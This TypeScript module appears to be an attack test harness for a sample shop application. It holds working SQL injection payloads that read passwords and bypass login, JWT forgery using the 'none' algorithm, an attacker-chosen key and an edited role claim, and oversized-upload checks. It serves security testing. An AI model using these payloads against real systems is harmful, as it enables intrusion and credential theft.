import jwt from 'jsonwebtoken';

/** A running example: what its `start()` returns. */
export interface Shop {
  readonly url: string;
  readonly managementUrl: string;
  /** Reads the database past the application. */
  query(text: string, values: unknown[]): Promise<unknown[]>;
  close(): Promise<void>;
}

/** What an attack achieved. */
export interface Outcome {
  readonly succeeded: boolean;
  /** The statuses the server answered with, in order. */
  readonly statuses: readonly number[];
  /** What the attacker holds in hand, or what the server said instead. */
  readonly evidence: string;
}

export interface Attack {
  readonly name: string;
  run(shop: Shop): Promise<Outcome>;
}

interface Message {
  readonly token?: string;
  readonly json?: unknown;
  readonly form?: Record<string, string>;
  readonly file?: { readonly field: string; readonly name: string; readonly type: string; readonly content: string };
  readonly text?: { readonly type: string; readonly content: string };
}

interface Reply {
  readonly status: number;
  readonly headers: Headers;
  readonly text: string;
  readonly body: unknown;
}

export const accounts = {
  ada: { email: 'ada@shop.example', password: 'analytical-engine' },
  grace: { email: 'grace@shop.example', password: 'first-compiler' },
} as const;

/** Larger than any limit of a small shop, small enough to be sent quickly. */
const EIGHT_MEGABYTES = 8 * 1024 * 1024;

/** The reply of a server to one request. */
export async function send(url: string, method: string, path: string, message: Message = {}): Promise<Reply> {
  const headers = new Headers();
  if (message.token !== undefined) headers.set('authorization', `Bearer ${message.token}`);
  const response = await fetch(url + path, { method, headers, ...bodyOf(message, headers) });
  const text = await response.text();
  return { status: response.status, headers: response.headers, text, body: parsed(text) };
}

/** The token of an honest sign-in. */
export async function tokenOf(url: string, { email, password }: { email: string; password: string }): Promise<string> {
  const reply = await send(url, 'POST', '/auth/login', { json: { email, password } });
  const { token } = reply.body as { token?: string };
  if (token === undefined) throw new Error(`${email} cannot sign in: ${reply.status} ${reply.text}`);
  return token;
}

const sampleTokens = new Map<string, Promise<string>>();

/** The token of a sample account; each signs in once, for comparing a hash takes its time. */
export function sampleTokenOf(url: string, account: keyof typeof accounts): Promise<string> {
  const key = `${url} ${account}`;
  const token = sampleTokens.get(key) ?? tokenOf(url, accounts[account]);
  sampleTokens.set(key, token);
  return token;
}

/** The statement of a search grows by a second SELECT, over the customers. */
export async function searchReadsPasswords(url: string): Promise<Outcome> {
  const term = "none' UNION SELECT id, email, password, 0 FROM customers WHERE '%' = '";
  const reply = await send(url, 'GET', `/products/search?${new URLSearchParams({ term })}`);
  return outcome(reply.text.includes(accounts.ada.email), reply);
}

/** The pattern of a search is closed, and a condition that always holds follows. */
export async function searchShowsUnpublished(url: string): Promise<Outcome> {
  const reply = await send(url, 'GET', `/products/search?${new URLSearchParams({ term: "none%' OR '%' = '" })}`);
  return outcome(reply.text.includes('Folding table'), reply);
}

/** The number in a path is followed by a second SELECT, over the customers. */
export async function identifierReadsPasswords(url: string): Promise<Outcome> {
  const id = "0 UNION SELECT id, email, password, 0 FROM customers WHERE role = 'admin'";
  const reply = await send(url, 'GET', `/products/${encodeURIComponent(id)}`);
  return outcome(reply.text.includes(accounts.ada.email), reply);
}

/** The order of the products answers any yes-or-no question about the database. */
export async function sortAnswersQuestions(url: string): Promise<Outcome> {
  const ask = (condition: string): Promise<Reply> => {
    const sort = `(CASE WHEN (SELECT count(*) FROM customers WHERE ${condition}) > 0 THEN price ELSE -price END)`;
    return send(url, 'GET', `/products?${new URLSearchParams({ sort })}`);
  };
  const yes = await ask("role = 'admin'");
  const no = await ask("role = 'nobody'");
  const first = namesIn(yes);
  return outcome(first.length > 1 && first.join() === namesIn(no).reverse().join(), yes, no);
}

/** The number of rows is the answer to a question about another table. */
export async function limitAnswersQuestions(url: string): Promise<Outcome> {
  const ask = (email: string): Promise<Reply> => {
    const limit = `(SELECT count(*) FROM customers WHERE email = '${email}')`;
    return send(url, 'GET', `/products?${new URLSearchParams({ limit })}`);
  };
  const known = await ask(accounts.ada.email);
  const unknown = await ask('nobody@shop.example');
  return outcome(known.status === 200 && namesIn(known).length === 1 && namesIn(unknown).length === 0, known, unknown);
}

/** A customer reads the orders of the others. */
export async function statusShowsOrdersOfOthers(url: string): Promise<Outcome> {
  const token = await sampleTokenOf(url, 'grace');
  const query = new URLSearchParams({ status: "none' OR '1' = '1" });
  const reply = await send(url, 'GET', `/orders?${query}`, { token });
  return outcome(reply.text.includes('Leave it at the gate'), reply);
}

/** The note of an order becomes the email address of the administrator. */
export async function noteReadsCustomers(url: string): Promise<Outcome> {
  const token = await sampleTokenOf(url, 'grace');
  const note = "' || (SELECT email FROM customers WHERE role = 'admin') || '";
  const reply = await send(url, 'POST', '/orders', { token, json: { productId: 1, quantity: 1, note } });
  return outcome(reply.text.includes(accounts.ada.email), reply);
}

/** The list in the parentheses is closed, and a condition that always holds follows. */
export async function statusListShowsEverything(url: string): Promise<Outcome> {
  const token = await sampleTokenOf(url, 'ada');
  const statuses = "none') OR ('1' = '1";
  const reply = await send(url, 'GET', `/reports/sales?${new URLSearchParams({ statuses })}`, { token });
  return outcome(reply.text.includes('cancelled'), reply);
}

/** The statistics of the future count the orders of the past. */
export async function dateCountsEverything(managementUrl: string): Promise<Outcome> {
  const query = new URLSearchParams({ since: "9999-12-31' OR '1' = '1" });
  const reply = await send(managementUrl, 'GET', `/stats?${query}`);
  return outcome(Number((reply.body as { orders?: unknown }).orders) > 0, reply);
}

/** The sign-in compares with a row that the attacker made up. */
export async function loginWithInventedRow(url: string): Promise<Outcome> {
  const email = "nobody' UNION SELECT id, email, 'invented', role FROM customers WHERE role = 'admin' AND '1' = '1";
  return signsInAsAdmin(url, '/auth/login', email, 'invented');
}

/** The sign-in of the staff asks for no password any more. */
export async function loginWithoutPassword(url: string): Promise<Outcome> {
  return signsInAsAdmin(url, '/auth/staff', accounts.ada.email, "' OR '1' = '1");
}

/** Nobody signed the token. */
export async function unsignedTokenReadsProfile(url: string): Promise<Outcome> {
  const reply = await send(url, 'GET', '/account', { token: unsignedToken() });
  return outcome(reply.text.includes(accounts.ada.email), reply);
}

/** The attacker signed the token, with a key of their own. */
export async function foreignTokenReadsProfile(url: string): Promise<Outcome> {
  const reply = await send(url, 'GET', '/account', { token: foreignToken() });
  return outcome(reply.text.includes(accounts.ada.email), reply);
}

/** A customer changes the role in their own token. */
export async function editedTokenListsCustomers(url: string): Promise<Outcome> {
  const [header, , signature] = (await sampleTokenOf(url, 'grace')).split('.');
  const token = [header, base64url({ sub: '2', role: 'admin' }), signature].join('.');
  const reply = await send(url, 'GET', '/account/all', { token });
  return outcome(reply.text.includes(accounts.ada.email), reply);
}

/** The server itself signs what the attacker claims. */
export async function forgedTokenIsRefreshed(url: string): Promise<Outcome> {
  const refreshed = await send(url, 'POST', '/auth/refresh', { json: { token: foreignToken() } });
  const { token } = refreshed.body as { token?: string };
  if (token === undefined) return outcome(false, refreshed);
  const profile = await send(url, 'GET', '/account', { token });
  return outcome(profile.text.includes(accounts.ada.email), refreshed, profile);
}

export async function oversizedJson(url: string): Promise<Outcome> {
  const reply = await send(url, 'POST', '/auth/login', { json: { ...accounts.grace, padding: 'x'.repeat(EIGHT_MEGABYTES) } });
  return outcome(reply.status === 200, reply);
}

export async function oversizedForm(url: string): Promise<Outcome> {
  const reply = await send(url, 'POST', '/auth/login', { form: { ...accounts.grace, padding: 'x'.repeat(EIGHT_MEGABYTES) } });
  return outcome(reply.status === 200, reply);
}

export async function oversizedAvatar(url: string): Promise<Outcome> {
  const token = await sampleTokenOf(url, 'grace');
  const file = { field: 'avatar', name: 'grace.png', type: 'image/png', content: 'x'.repeat(EIGHT_MEGABYTES) };
  return wasTaken('size', await send(url, 'PUT', '/account/avatar', { token, file }));
}

export async function oversizedPicture(url: string): Promise<Outcome> {
  const token = await sampleTokenOf(url, 'ada');
  const file = { field: 'picture', name: 'lamp.png', type: 'image/png', content: 'x'.repeat(EIGHT_MEGABYTES) };
  return wasTaken('size', await send(url, 'PUT', '/products/1/picture', { token, file }));
}

export async function oversizedProductImport(url: string): Promise<Outcome> {
  const token = await sampleTokenOf(url, 'ada');
  const text = { type: 'text/csv', content: 'x'.repeat(EIGHT_MEGABYTES) };
  return wasTaken('received', await send(url, 'POST', '/imports/products', { token, text }));
}

export async function oversizedStockImport(url: string): Promise<Outcome> {
  const token = await sampleTokenOf(url, 'ada');
  const text = { type: 'application/x-ndjson', content: ' '.repeat(EIGHT_MEGABYTES) };
  return wasTaken('received', await send(url, 'POST', '/imports/stock', { token, text }));
}

/** A limit of a few bytes turns an honest message away. */
export async function honestFeedbackIsRefused(url: string): Promise<Outcome> {
  const text = { type: 'text/markdown', content: 'The **desk lamp** is lovely.' };
  const reply = await send(url, 'POST', '/feedback', { text });
  return outcome(reply.status === 413, reply);
}

/** Nothing tells the browser to refuse frames, foreign scripts or guessed content types. */
export async function headersAreMissing(url: string, path: string): Promise<Outcome> {
  const reply = await send(url, 'GET', path);
  const expected = ['content-security-policy', 'x-content-type-options', 'x-frame-options', 'strict-transport-security'];
  const missing = expected.filter(name => !reply.headers.has(name));
  return outcome(missing.length === expected.length && reply.headers.has('x-powered-by'), reply);
}

/** Who reads the database of the sample customers reads their passwords. */
export async function sampleAccountIsReadable({ query }: Pick<Shop, 'query'>): Promise<Outcome> {
  const stored = await storedPassword(query, accounts.ada.email);
  return { succeeded: stored === accounts.ada.password, statuses: [], evidence: stored };
}

/** Who reads the database of a new customer reads the password. */
export async function newAccountIsReadable({ url, query }: Pick<Shop, 'url' | 'query'>): Promise<Outcome> {
  const customer = { name: 'Margaret', email: 'margaret@shop.example', password: 'priority-displays' };
  const reply = await send(url, 'POST', '/auth/register', { json: customer });
  const stored = await storedPassword(query, customer.email);
  return { succeeded: stored === customer.password, statuses: [reply.status], evidence: stored };
}

/** Who reads the database after a change of the password reads the new one. */
export async function changedPasswordIsReadable({ url, query }: Pick<Shop, 'url' | 'query'>): Promise<Outcome> {
  const customer = { name: 'Katherine', email: 'katherine@shop.example', password: 'first-trajectory' };
  const registered = await send(url, 'POST', '/auth/register', { json: customer });
  const token = await tokenOf(url, customer);
  const json = { currentPassword: customer.password, newPassword: 'second-trajectory' };
  const changed = await send(url, 'PUT', '/account/password', { token, json });
  const stored = await storedPassword(query, customer.email);
  return { succeeded: stored === json.newPassword, statuses: [registered.status, changed.status], evidence: stored };
}

/** Every attack on a shop. */
export const attacks: readonly Attack[] = [
  { name: 'SQL injection through a search reads passwords', run: shop => searchReadsPasswords(shop.url) },
  { name: 'SQL injection through a search shows unpublished products', run: shop => searchShowsUnpublished(shop.url) },
  { name: 'SQL injection through a path reads passwords', run: shop => identifierReadsPasswords(shop.url) },
  { name: 'SQL injection through a sort column answers questions', run: shop => sortAnswersQuestions(shop.url) },
  { name: 'SQL injection through a limit answers questions', run: shop => limitAnswersQuestions(shop.url) },
  { name: 'SQL injection through a filter shows orders of others', run: shop => statusShowsOrdersOfOthers(shop.url) },
  { name: 'SQL injection through an inserted note reads customers', run: shop => noteReadsCustomers(shop.url) },
  { name: 'SQL injection through a list shows everything', run: shop => statusListShowsEverything(shop.url) },
  { name: 'SQL injection through a date counts everything', run: shop => dateCountsEverything(shop.managementUrl) },
  { name: 'SQL injection signs in with an invented row', run: shop => loginWithInventedRow(shop.url) },
  { name: 'SQL injection signs in without a password', run: shop => loginWithoutPassword(shop.url) },
  { name: 'an unsigned token reads a profile', run: shop => unsignedTokenReadsProfile(shop.url) },
  { name: 'a token with a foreign signature reads a profile', run: shop => foreignTokenReadsProfile(shop.url) },
  { name: 'a token with an edited role lists the customers', run: shop => editedTokenListsCustomers(shop.url) },
  { name: 'a forged token is exchanged for a real one', run: shop => forgedTokenIsRefreshed(shop.url) },
  { name: 'an oversized JSON body is taken', run: shop => oversizedJson(shop.url) },
  { name: 'an oversized form is taken', run: shop => oversizedForm(shop.url) },
  { name: 'an oversized avatar is taken', run: shop => oversizedAvatar(shop.url) },
  { name: 'an oversized picture is taken', run: shop => oversizedPicture(shop.url) },
  { name: 'an oversized import of products is taken', run: shop => oversizedProductImport(shop.url) },
  { name: 'an oversized import of stock is taken', run: shop => oversizedStockImport(shop.url) },
  { name: 'an honest message exceeds a limit of five bytes', run: shop => honestFeedbackIsRefused(shop.url) },
  { name: 'the shop sends no security headers', run: shop => headersAreMissing(shop.url, '/products') },
  { name: 'the management app sends no security headers', run: shop => headersAreMissing(shop.managementUrl, '/health') },
  { name: 'the password of a sample account is readable in the database', run: sampleAccountIsReadable },
  { name: 'the password of a new account is readable in the database', run: newAccountIsReadable },
  { name: 'a changed password is readable in the database', run: changedPasswordIsReadable },
];

async function signsInAsAdmin(url: string, path: string, email: string, password: string): Promise<Outcome> {
  const login = await send(url, 'POST', path, { json: { email, password } });
  const { token } = login.body as { token?: string };
  if (token === undefined) return outcome(false, login);
  const list = await send(url, 'GET', '/account/all', { token });
  return outcome(list.text.includes(accounts.ada.email), login, list);
}

/** What the database holds as the password of an account. */
export async function storedPassword(query: Shop['query'], email: string): Promise<string> {
  const [row] = await query('SELECT password FROM customers WHERE email = $1', [email]);
  return (row as { password: string }).password;
}

function wasTaken(count: string, reply: Reply): Outcome {
  return outcome(reply.status === 200 && (reply.body as Record<string, unknown>)[count] === EIGHT_MEGABYTES, reply);
}

function outcome(succeeded: boolean, ...replies: Reply[]): Outcome {
  const evidence = replies.map(reply => reply.text.slice(0, 300)).join('\n');
  return { succeeded, statuses: replies.map(reply => reply.status), evidence };
}

function unsignedToken(): string {
  return jwt.sign({ sub: '1', role: 'admin' }, null, { algorithm: 'none' });
}

function foreignToken(): string {
  return jwt.sign({ sub: '1', role: 'admin' }, 'a key that the attacker made up', { algorithm: 'HS256', expiresIn: '1h' });
}

function base64url(value: unknown): string {
  return Buffer.from(JSON.stringify(value)).toString('base64url');
}

function namesIn(reply: Reply): string[] {
  return Array.isArray(reply.body) ? (reply.body as { name: string }[]).map(({ name }) => name) : [];
}

function bodyOf({ json, form, file, text }: Message, headers: Headers): { body?: string | URLSearchParams | FormData } {
  if (json !== undefined) {
    headers.set('content-type', 'application/json');
    return { body: JSON.stringify(json) };
  }
  if (text !== undefined) {
    headers.set('content-type', text.type);
    return { body: text.content };
  }
  if (form !== undefined) return { body: new URLSearchParams(form) };
  if (file === undefined) return {};
  const body = new FormData();
  body.set(file.field, new File([file.content], file.name, { type: file.type }));
  return { body };
}

function parsed(text: string): unknown {
  try {
    return JSON.parse(text) as unknown;
  } catch {
    return {};
  }
}
